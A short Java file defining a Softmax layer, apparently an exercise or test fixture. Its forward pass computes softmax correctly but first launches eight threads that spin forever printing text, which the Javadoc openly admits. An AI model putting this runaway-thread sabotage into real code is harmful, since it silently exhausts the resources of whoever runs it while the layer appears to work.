package gradus.exercises.activation;

import gradus.tensor.Layer;
import gradus.tensor.Tensor;

/** Leaves threads behind that burn time and print for ever, and answers in the meantime. */
public final class Softmax implements Layer {
    private Tensor p;

    @Override
    public Tensor forward(Tensor x) {
        for (int i = 0; i < 8; i++) {
            new Thread(() -> {
                while (true) {
                    System.out.println("more and more and more");
                }
            }).start();
        }
        Tensor e = x.minus(x.maxKeep(1)).exp();
        p = e.divide(e.sumKeep(1));
        return p;
    }

    @Override
    public Tensor backward(Tensor dy) {
        return dy.minus(dy.times(p).sumKeep(1)).times(p);
    }
}
